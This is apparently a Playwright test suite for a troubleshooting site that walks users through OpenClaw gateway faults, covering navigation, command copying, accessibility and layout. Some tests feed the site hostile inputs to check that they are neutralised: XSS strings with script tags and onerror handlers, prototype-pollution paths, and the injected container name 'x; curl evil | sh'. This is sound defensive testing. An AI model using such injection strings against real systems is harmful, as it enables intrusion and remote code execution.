import { AxeBuilder } from '@axe-core/playwright'
import { expect, type Page } from 'playwright/test'
import { test } from './page.ts'
import { families } from './flows.ts'

const fix = 'gateway-start-blocked/set-mode/'
const heading = (page: Page) => page.getByRole('heading', { level: 1 })
const answer = (page: Page, label: string) =>
  page.getByRole('navigation', { name: /What|If it did not work/ }).getByRole('link', { name: label })

test.describe('the environment', () => {
  test('is asked once, stands in the address, and is remembered', async ({ page }) => {
    await page.goto('gateway-start-blocked/')
    await page.getByRole('region', { name: 'How do you run OpenClaw?' }).getByRole('button', { name: 'Docker Compose' }).click()
    await expect(page).toHaveURL(/install=compose/)
    await expect(page.getByRole('region', { name: 'How do you run OpenClaw?' })).toBeHidden()
    await page.goto('connect-failed/')
    await expect(page.getByRole('radio', { name: 'Docker Compose' })).toBeChecked()
    await expect(page.getByRole('region', { name: 'How do you run OpenClaw?' })).toBeHidden()
  })

  test('of a link wins over memory, and is not remembered', async ({ page }) => {
    await page.goto(`${fix}?install=native`)
    await page.getByRole('radio', { name: 'Native' }).check({ force: true })
    await page.getByRole('radio', { name: 'Docker Compose' }).check({ force: true })
    await page.goto(`${fix}?install=native&os=windows&release=2026.2.24`)
    await expect(page.getByRole('radio', { name: 'Native' })).toBeChecked()
    await page.goto('')
    await expect(page.getByRole('radio', { name: 'Docker Compose' })).toBeChecked()
  })

  test('docker in a link means compose', async ({ page }) => {
    await page.goto('gateway-start-blocked/set-mode-docker/?install=docker')
    await expect(page.getByRole('group', { name: 'step 1' }).getByRole('code')).toContainText('docker compose run')
    await expect(page).toHaveURL(/install=compose/)
  })

  test('switches the commands, and keeps the place where it can occur', async ({ page }) => {
    await page.goto('gateway-start-blocked/set-mode-docker/?install=compose')
    await page.getByRole('radio', { name: 'Container' }).check({ force: true })
    await expect(page.getByRole('group', { name: 'step 1' }).getByRole('code')).toContainText('docker run --rm')
    await page.getByRole('radio', { name: 'Native' }).check({ force: true })
    await expect(page.getByRole('note')).toContainText('occurs only with Docker Compose or in a container')
    await expect(heading(page)).toHaveText('Did this gateway start before?')
  })

  test('offers the earlier release, whose commands differ', async ({ page }) => {
    await page.goto('gateway-start-blocked/set-mode-docker/?install=container&os=linux')
    await page.getByText('Linux, 2026.9.6').click()
    await page.getByRole('radio', { name: /2026\.2\.24/ }).check({ force: true })
    await expect(page.getByRole('group', { name: 'step 1' }).getByRole('code')).toContainText('node dist/index.js config set')
    await expect(page).toHaveURL(/release=2026\.2\.24/)
  })
})

test.describe('the address', () => {
  test('survives reload, Back, Forward and sharing', async ({ page, browser }) => {
    await page.goto('gateway-start-blocked/?install=compose')
    await answer(page, 'Nothing: not found, or unset').click()
    await answer(page, 'No, this is its first start').click()
    const title = 'Write the mode into the mounted config, then start'
    await expect(heading(page)).toHaveText(title)
    await expect(page).toHaveTitle(new RegExp(`^${title} – Gateway start blocked – `))
    await page.reload()
    await expect(heading(page)).toHaveText(title)
    await expect(page.getByRole('list', { name: 'Your answers so far' }).getByRole('listitem')).toHaveCount(2)
    await page.goBack()
    await expect(heading(page)).toHaveText('Did it start before you recreated the container?')
    await page.goForward()
    await expect(heading(page)).toHaveText(title)

    const other = await (await browser.newContext()).newPage()
    await other.goto(page.url())
    await expect(heading(other)).toHaveText(title)
    await expect(other.getByRole('list', { name: 'Your answers so far' })).not.toContainText('assumed')
    await other.context().close()
  })

  test('of a node alone shows it, with the shortest way to it marked as assumed', async ({ page }) => {
    await page.goto('gateway-start-blocked/set-mode-docker/?install=compose')
    await expect(page.getByRole('list', { name: 'Your answers so far' })).toContainText('(assumed)')
  })

  test('with an answer to change asks it again and keeps the later ones that fit', async ({ page }) => {
    await page.goto('gateway-start-blocked/?install=compose')
    await answer(page, 'Nothing: not found, or unset').click()
    await answer(page, 'No, this is its first start').click()
    await page.getByRole('link', { name: 'Change the answer to: Which mode does the config hold?' }).click()
    await expect(heading(page)).toHaveText('Which mode does the config hold?')
    await answer(page, 'Nothing: not found, or unset').click()
    await expect(heading(page)).toHaveText('Write the mode into the mounted config, then start')
  })

  test('of an unknown node gives the nearest place and says so', async ({ page }) => {
    await page.goto('gateway-start-blocked/no-such-step/?install=native')
    await expect(page.getByRole('note')).toContainText('has no “no-such-step”')
    await expect(heading(page)).toBeVisible()
  })

  test('with unknown answers and environments is cleaned, and says so', async ({ page }) => {
    await page.goto('gateway-start-blocked/?install=vm#a=read-mode:nonsense,nothing:at-all')
    await expect(page.getByRole('note')).toHaveCount(3)
    await expect(page).not.toHaveURL(/vm|nonsense/)
  })

  test('of an unknown family names it and offers what is near, at any depth', async ({ page }) => {
    for (const path of ['pairing-requird/', 'pairing-requird/some/deep/path']) {
      const answered = await page.goto(path)
      expect(answered?.status()).toBe(404)
      await expect(heading(page)).toContainText('There is no page “pairing-requird')
      await expect(page.getByRole('main').getByRole('link', { name: 'Pairing required' }).first()).toBeVisible()
    }
    await page.getByRole('main').getByRole('link', { name: 'Pairing required' }).first().click()
    await expect(page).toHaveURL(/\/pairing-required\//)
    await expect(heading(page)).toBeVisible()
  })

  test('can hold hostile text without harm', async ({ page }) => {
    let harmed = false
    page.on('dialog', (dialog) => {
      harmed = true
      void dialog.dismiss()
    })
    for (const path of [
      '%3Cimg%20src=x%20onerror=alert(1)%3E/',
      `${fix}?install=%22%3E%3Cscript%3Ealert(1)%3C/script%3E#a=%3Cscript%3E:x`,
      '%E0%A4%A/',
      'docker/__proto__/',
      'constructor/',
    ])
      await page.goto(path).then(() => expect(heading(page)).toBeVisible())
    expect(harmed).toBe(false)
  })
})

test.describe('copying', () => {
  test('fills in what the reader knows, once, and refuses what no such name can be', async ({ page }) => {
    await page.goto('gateway-start-blocked/set-mode-docker/?install=container')
    const restart = page.getByRole('group', { name: 'step 2' })
    await restart.getByRole('button', { name: 'Copy: step 2' }).click()
    await expect(restart.getByRole('button', { name: /Copied, replace <container>/ })).toBeVisible()
    await expect(page.getByRole('status')).toContainText('Replace <container> before you run it')
    await page.getByRole('textbox', { name: 'Container name' }).fill('my-claw')
    await expect(restart.getByRole('code')).toHaveText('docker restart my-claw')
    await expect(page.getByRole('group', { name: 'the check that it worked' }).getByRole('code')).toHaveText(
      'docker exec my-claw openclaw gateway health',
    )
    await page.getByRole('textbox', { name: 'Container name' }).fill('x; curl evil | sh')
    await expect(restart.getByRole('code')).toHaveText('docker restart <container>')
    await expect(page.getByText('This does not look right')).toBeVisible()
  })

  test('all steps gives them in order, one per line, without a line end', async ({ page }) => {
    await page.goto(`${fix}?install=native`)
    await page.getByRole('button', { name: /^Copy all steps/ }).click()
    await expect(page.getByRole('status')).toContainText('Copied: all 2 steps')
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('openclaw config set gateway.mode local\nopenclaw gateway start')
  })

  test('never includes what deletes data in Copy all', async ({ page }) => {
    const deleting = families.flatMap((family) =>
      family.nodes.filter(({ steps }) => steps.some(({ risk }) => risk === 'deletes-data')).map((node) => ({ family, node })),
    )
    expect(deleting.length).toBeGreaterThan(0)
    for (const { family, node } of deleting) {
      const install = (['native', 'compose', 'container'] as const).find((each) =>
        node.steps.some(({ risk, commands }) => risk === 'deletes-data' && commands[each].linux !== null),
      )!
      await page.goto(`${family.id}/${node.id}/?install=${install}&os=linux`)
      const all = page.getByRole('button', { name: /^Copy all steps/ })
      await expect(page.getByRole('checkbox', { name: 'I have a backup' }).first()).toBeVisible()
      if ((await all.count()) === 0) continue
      await all.click()
      const copied = await page.evaluate(() => navigator.clipboard.readText())
      for (const step of node.steps.filter(({ risk }) => risk === 'deletes-data'))
        for (const line of (step.commands[install].linux ?? '').split('\n').filter(Boolean)) expect(copied.split('\n')).not.toContain(line)
    }
  })

  test('falls back to selecting the text where the browser refuses', async ({ page }) => {
    await page.addInitScript(() => {
      Object.defineProperty(navigator, 'clipboard', { value: { writeText: () => Promise.reject(new Error('refused')) } })
      document.execCommand = () => false
    })
    await page.goto(`${fix}?install=native&os=linux`)
    await page.getByRole('button', { name: 'Copy: step 1' }).click()
    await expect(page.getByRole('button', { name: 'Press Ctrl+C' })).toBeVisible()
    expect(await page.evaluate(() => window.getSelection()?.toString())).toBe('openclaw config set gateway.mode local')
    await expect(page.getByRole('status')).toContainText('press Ctrl+C')
  })
})

test('without storage everything works', async ({ page }) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'localStorage', {
      get() {
        throw new DOMException('blocked', 'SecurityError')
      },
    })
  })
  await page.goto('gateway-start-blocked/?install=native')
  await answer(page, 'Nothing: not found, or unset').click()
  await page.getByRole('button', { name: /^Theme/ }).click()
  await page.getByRole('radio', { name: 'Docker Compose' }).check({ force: true })
  await expect(heading(page)).toHaveText('Did it start before you recreated the container?')
})

test('“It works now” shows how the fault stays away', async ({ page }) => {
  await page.goto(`${fix}?install=native`)
  await page.getByRole('button', { name: 'It works now' }).click()
  const worked = page.getByRole('region', { name: 'Good. Your gateway works.' })
  await expect(worked.getByRole('heading')).toBeFocused()
  await worked.getByRole('listitem').getByRole('link').first().click()
  await expect(page).toHaveURL(/\/prevention\//)
  await page.goBack()
  await expect(heading(page)).toHaveText('Set local mode, then start the gateway')
})

test('a new place takes the focus to its heading', async ({ page }) => {
  await page.goto('gateway-start-blocked/?install=native')
  await answer(page, 'Nothing: not found, or unset').press('Enter')
  await expect(heading(page)).toBeFocused()
})

test('the skip link goes to the content and leaves the answers alone', async ({ page }) => {
  await page.goto('gateway-start-blocked/?install=native')
  await answer(page, 'Nothing: not found, or unset').click()
  const address = page.url()
  await page.getByRole('link', { name: 'Skip to the content' }).press('Enter')
  await expect(page.getByRole('main')).toBeFocused()
  expect(page.url()).toBe(address)
})

test.describe('the map', () => {
  test('is one stop for the keyboard, walked by arrows, opened by Enter', async ({ page }) => {
    await page.goto('gateway-start-blocked/?install=native')
    const map = page.getByRole('complementary', { name: 'Map' })
    const first = map.getByRole('button', { name: 'Check: Which mode does the config hold?' })
    await expect(first).toHaveAttribute('tabindex', '0')
    await expect(map.locator('[tabindex="0"]')).toHaveCount(1)
    await first.focus()
    await page.keyboard.press('ArrowDown')
    const focused = page.locator(':focus')
    await expect(focused).not.toHaveAccessibleName(/Which mode/)
    const name = ((await focused.getAttribute('aria-label')) ?? '').replace(/^\w+: /, '').split(/[.?]/)[0]!
    await page.keyboard.press('Enter')
    await expect(heading(page)).toContainText(name)
  })

  test('never takes the scroll of the page', async ({ page }) => {
    await page.goto(`${fix}?install=native`)
    const map = page.getByRole('complementary', { name: 'Map' })
    await expect(map.getByRole('button', { name: /^Fix: Set local mode, then start/ })).toBeVisible()
    const box = (await map.boundingBox())!
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2)
    await page.mouse.wheel(0, 300)
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(100)
  })

  test('says which branches cannot occur, and why', async ({ page }) => {
    await page.goto('gateway-start-blocked/?install=native')
    await expect(
      page
        .getByRole('complementary', { name: 'Map' })
        .getByRole('button', { name: /^Fix: Write the mode into the mounted config.*only with Docker Compose or in a container/ }),
    ).toBeVisible()
  })

  test('may fail to load: the panel does not need it', async ({ page }) => {
    await page.route(/\/chart-(?!frame).*\.js$/, (route) => route.abort())
    await page.goto('gateway-start-blocked/?install=native')
    await answer(page, 'Nothing: not found, or unset').click()
    await expect(heading(page)).toHaveText('Did this gateway start before?')
    await expect(page.getByText('The map did not load')).toBeVisible()
  })
})

test('a family that does not load can be tried again', async ({ page }) => {
  await page.goto('?install=native')
  await page.route(/assets\/docker-.*\.json$/, (route) => route.abort())
  await page
    .getByRole('main')
    .getByRole('link', { name: /Docker/ })
    .first()
    .click()
  await expect(heading(page)).toHaveText('This page did not load')
  await page.unroute(/assets\/docker-.*\.json$/)
  await expect(page.getByRole('button', { name: 'Reload the page' })).toBeVisible()
  await page.getByRole('button', { name: 'Try again' }).click()
  await expect(page.getByRole('article')).toBeVisible()
})

test('a part of the site that does not load says so, and Back leads out of it', async ({ page }) => {
  await page.goto('docker/?install=native')
  const title = await heading(page).innerText()
  await page.route(/assets\/home-.*\.js$/, (route) => route.abort())
  await page.getByRole('link', { name: 'All errors' }).first().click()
  await expect(heading(page)).toHaveText('This page did not load')
  await expect(page.getByRole('button', { name: 'Reload the page' })).toBeVisible()
  await page.goBack()
  await expect(heading(page)).toHaveText(title)
})

test.describe('on a phone', () => {
  test.use({ viewport: { width: 375, height: 740 }, hasTouch: true, isMobile: true })

  test('the map opens full screen, a tap on a box goes there', async ({ page }) => {
    await page.goto('gateway-start-blocked/?install=compose')
    await page.getByRole('button', { name: 'Show map' }).click()
    const dialog = page.getByRole('dialog', { name: 'Map of this flowchart' })
    await dialog.getByRole('button', { name: 'Show the whole chart' }).tap()
    await dialog.getByRole('button', { name: /^Question: Did it start before/ }).tap()
    await expect(dialog).toBeHidden()
    await expect(heading(page)).toHaveText('Did it start before you recreated the container?')
  })

  test('nothing is wider than the screen, down to 320 pixels', async ({ page }) => {
    for (const width of [375, 320]) {
      await page.setViewportSize({ width, height: 700 })
      for (const path of ['', 'gateway-start-blocked/', 'gateway-start-blocked/set-mode-docker/', 'full-reset/']) {
        await page.goto(`${path}?install=container`)
        await expect(heading(page)).toBeVisible()
        expect(await page.evaluate(() => document.documentElement.scrollWidth), path).toBeLessThanOrEqual(width)
      }
    }
  })
})

for (const colorScheme of ['light', 'dark'] as const)
  test.describe(`axe, ${colorScheme}`, () => {
    test.use({ colorScheme })
    for (const path of [
      '',
      'gateway-start-blocked/',
      'gateway-start-blocked/set-mode-docker/?install=container',
      'gateway-start-blocked/restore-backup/?install=compose',
      'triage/',
      'full-reset/',
      'no-such-family/',
    ])
      test(`finds nothing serious on /${path}`, async ({ page }) => {
        await page.goto(path)
        await expect(heading(page)).toBeVisible()
        await page.waitForLoadState('networkidle')
        const { violations } = await new AxeBuilder({ page }).analyze()
        const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical')
        expect(serious.map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(' ')).join(', ')}`)).toEqual([])
      })
  })

test('nothing is asked of another origin, and no page has an error', async ({ page, baseURL }) => {
  const foreign: string[] = []
  const errors: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(baseURL!) && !request.url().startsWith('data:')) foreign.push(request.url())
  })
  page.on('pageerror', ({ message }) => errors.push(message))
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(message.text())
  })
  await page.goto('')
  for (const { id, nodes } of families) {
    await page.goto(`${id}/`)
    await expect(page.getByRole('complementary', { name: 'Map' }).getByRole('button', { name: nodes[0]!.title }).first()).toBeVisible()
  }
  expect(foreign).toEqual([])
  expect(errors).toEqual([])
})

test('a fix says what is proven of its commands on the setup chosen', async ({ page }) => {
  const fixes = families.flatMap((family) =>
    family.nodes.flatMap((node) => (node.kind === 'fix' ? [{ path: `${family.id}/${node.id}/`, node }] : [])),
  )
  const ran = fixes.find(({ node: { verified } }) => {
    const native = verified['2026.9.6']?.native
    return native?.linux === 'ran' && native.macos === 'parsed'
  })!
  await page.goto(`${ran.path}?install=native&os=linux&release=2026.9.6`)
  const proof = page.getByRole('note', { name: 'Proof' })
  await expect(proof).toContainText(/Ran on (2026\.2\.24 and )?2026\.9\.6\./)
  await page.goto(`${ran.path}?install=native&os=macos&release=2026.9.6`)
  await expect(proof).toContainText(/Parses on .*2026\.9\.6\./)
  await expect(proof).not.toContainText('Ran on', { useInnerText: true })
})
